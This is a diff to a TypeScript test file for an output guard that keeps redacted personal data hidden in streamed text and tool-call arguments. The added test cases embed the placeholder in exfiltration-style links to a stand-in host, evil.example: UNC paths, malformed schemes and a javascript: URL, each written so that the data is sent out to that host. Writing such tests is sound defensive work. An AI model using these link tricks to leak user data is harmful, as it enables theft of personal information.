@@ -4,6 +4,7 @@ import { Inspector } from '../../functions/core/inspect/inspector.ts';
 import { OutputGuard } from '../../functions/core/inspect/output/output-guard.ts';
 import { Policy } from '../../functions/core/inspect/policy.ts';
 import { Redaction } from '../../functions/core/inspect/redaction.ts';
+import type { TextSlot } from '../../functions/core/model/piece.ts';
 import { createInspector } from '../../functions/detectors/index.ts';
 import { ADDRESS_FORMS, HARMLESS_FORMS, UNSCORED_FORMS } from './address-forms.ts';
 
@@ -13,15 +14,20 @@ const redaction = new Redaction('test');
 const PLACEHOLDER = redaction.hideInput({ rule: { category: 'email' } } as unknown as Finding, ORIGINAL);
 
 /** The text that the client receives of one that arrives in pieces. */
-function received(pieces: readonly string[], isJson: boolean): string {
+function received(pieces: readonly string[], slotKind: Partial<TextSlot> = {}): string {
   const guard = new OutputGuard(inspector, new Policy({}), redaction, () => {});
   const texts = (out: ReturnType<typeof guard.push>) => out.flatMap(({ slots }) => slots.map(({ text }) => text));
   const pushed = pieces.flatMap((text) => {
-    const slot = { channel: 'a', text, path: ['texts', 0], ...(isJson && { isJson }) };
-    return texts(guard.push({ json: JSON.stringify({ texts: [text] }), slots: [slot], echoes: [], divisible: true }));
+    const slot: TextSlot = { channel: 'a', text, path: ['texts', 0], ...slotKind };
+    const json = JSON.stringify({ texts: [text], input: { text, link: text, goto: text } });
+    return texts(guard.push({ json, slots: [slot], echoes: [], divisible: true }));
   });
   return [...pushed, ...texts(guard.end())].join('');
 }
+
+const JSON_CALL = { isJson: true, call: 'client' } as const;
+/** A string of arguments that are an object, as in Messages and Gemini. */
+const argument = (name: string) => ({ call: 'client', path: ['input', name] }) as const;
 
 const halves = (text: string) => [text.slice(0, text.length / 2), text.slice(text.length / 2)];
 
@@ -30,14 +36,29 @@ function everyWay(text: string): Set<string> {
   const json = JSON.stringify({ text });
   const slashes = json.replaceAll('/', '\\/').replaceAll('<', '\\u003c');
   return new Set([
-    ...[[text], [...text], halves(text)].map((pieces) => received(pieces, false)),
-    ...[[json], [...json], [...slashes]].map((pieces) => JSON.parse(received(pieces, true)).text),
+    ...[[text], [...text], halves(text)].map((pieces) => received(pieces)),
+    ...[[json], [...json], [...slashes]].map((pieces) => JSON.parse(received(pieces, JSON_CALL)).text),
+    received([text], argument('text')),
   ]);
 }
 
 describe('personal data', () => {
   test.each([...ADDRESS_FORMS, ...UNSCORED_FORMS])('stays hidden in an address to another host: %s', (_, write) => {
     expect(everyWay(write(PLACEHOLDER))).toEqual(new Set([write(PLACEHOLDER)]));
+  });
+
+  test.each([
+    ['link', String.raw`\\evil.example\p?h=${PLACEHOLDER}`],
+    ['link', String.raw`https:\\evil.example\a b?h=${PLACEHOLDER}`],
+    ['link', `https:evil.example/p?h=${PLACEHOLDER}`],
+    ['goto', String.raw`https:\\evil.example\a b?h=${PLACEHOLDER}`],
+    ['goto', `https:evil.example/p?h=${PLACEHOLDER}`],
+    ['goto', ` HTTP:evil.example/p?h=${PLACEHOLDER}`],
+    ['goto', `javascript:location='/'+'/evil.example/'+'${PLACEHOLDER}'`],
+  ])('stays hidden in an argument that is an address: %s %s', (name, text) => {
+    const json = JSON.stringify({ [name]: text });
+    const texts = [[json], [...json]].map((pieces) => JSON.parse(received(pieces, JSON_CALL))[name]);
+    expect([...texts, received([text], argument(name))]).toEqual([text, text, text]);
   });
 
   test.each(HARMLESS_FORMS)('is restored elsewhere: %s', (_, write) => {
